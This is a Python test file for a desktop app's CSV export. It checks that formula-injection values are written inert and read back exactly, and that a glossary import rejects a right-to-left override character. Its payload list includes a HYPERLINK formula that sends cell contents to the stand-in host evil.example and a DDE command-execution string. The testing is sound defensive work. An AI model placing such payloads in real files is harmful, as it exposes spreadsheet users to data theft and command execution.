"""Every CSV the app writes is safe to open in a spreadsheet, and reads back exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coop_desktop import tabular
from coop_desktop.fileio import is_private
from coop_desktop.services import termbase

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1",
    "＝1+1",  # full-width, as a Chinese input method types it
    "＋86 755",
    "'quoted'",
    "''",
    "'=x",
    "'",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_dangerous_cells_are_written_inert_and_read_back(value):
    written = tabular.safe_cell(value)
    assert written.startswith("'") and written[1:] == value
    assert tabular.restore_cell(written) == value


@pytest.mark.parametrize("value", ["合作区", "Little Giant", "'Little Giant'", "x=1", "1-2",
                                   "a@b.c", " =1", ""])
def test_ordinary_cells_are_written_as_they_are(value):
    expected = "'" + value if value.startswith("'") else value
    assert tabular.safe_cell(value) == expected
    assert tabular.restore_cell(tabular.safe_cell(value)) == value


def test_a_hand_made_quote_before_an_ordinary_character_is_kept():
    assert tabular.restore_cell("'Little Giant'") == "'Little Giant'"


def test_numbers_stay_numbers_and_none_is_empty():
    assert tabular.safe_cell(-5) == -5 and tabular.safe_cell(None) == ""


@given(st.text())
def test_every_text_round_trips(text):
    assert tabular.restore_cell(tabular.safe_cell(text)) == text
    written = tabular.safe_cell(text)
    assert not written or written[0] not in tabular.TRIGGERS


def test_csv_files_are_utf8_with_bom_crlf_and_private(tmp_path):
    path = tabular.write_csv(tmp_path / "t.csv", [["zh", "en"], ["合作区", "=1+1"]])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows == [["zh", "en"], ["合作区", "'=1+1"]]
    assert is_private(path)


def test_glossary_export_writes_no_live_formula_and_imports_back_exactly(db, tmp_path):
    values = [('=HYPERLINK("http://evil.example","点击")', "=1+1", "@note"),
              ("-负号开头", "+plus", "'quoted note'"),
              ("专精特新", "'Little Giant'", "\t=tab")]
    for zh, en, note in values:
        termbase.add_user_term(db, zh, en, note)
    path = tmp_path / "terms.csv"
    assert termbase.export_terms(db, path, origins=["user"]) == 3
    text = path.read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not any(c[:1] in tabular.TRIGGERS for c in cells), cells
    assert '\'=HYPERLINK("http://evil.example","点击")' in cells

    for term in termbase.terms(db, records_too=False):
        if term.origin == "user":
            termbase.delete_terms(db, [term.id])
    report = termbase.import_terms(db, path)
    assert report.added == 3 and not report.skipped
    stored = {(t.zh, t.en, t.note) for t in termbase.terms(db, records_too=False)
              if t.origin == "user"}
    # Notes are trimmed like every note ("\t=tab" is stored as "=tab").
    assert stored == {(zh, en, note.strip()) for zh, en, note in values}


def test_import_skips_a_term_with_a_direction_override_and_says_why(db, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("zh,en\n合作区\u202e,Cooperation zone\n园区,Park\n", encoding="utf-8")
    report = termbase.import_terms(db, path)
    assert report.added == 1
    [skipped] = report.skipped
    assert skipped.line == 2 and "U+202E" in skipped.reason.render()
